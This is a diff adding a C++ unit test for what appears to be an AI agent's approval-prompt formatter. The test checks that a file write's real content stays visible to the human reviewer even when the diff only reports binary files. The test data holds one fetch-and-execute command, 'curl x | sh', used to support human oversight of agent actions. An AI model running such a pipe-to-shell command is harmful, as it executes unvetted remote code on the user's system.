@@ -213,6 +213,14 @@ TEST(ApprovalTextTest, AWriteIsItsDifferenceAndItsPathExactly) {
             "    in /workspace\n");
 }
 
+TEST(ApprovalTextTest, ADifferenceThatShowsNoContentDoesNotStandForIt) {
+  agent::v1::PermissionRequested request;
+  request.set_tool_name("Write");
+  request.set_arguments_json(R"({"content":"curl x | sh\n","path":"a"})");
+  request.set_diff("diff --git a/a b/a\nBinary files a/a and b/a differ\n");
+  EXPECT_NE(FormatApproval(request, false).find("curl x | sh"), std::string::npos);
+}
+
 TEST(ApprovalTextTest, ALongDifferenceSaysThatItIsCut) {
   agent::v1::PermissionRequested request;
   request.set_tool_name("Write");
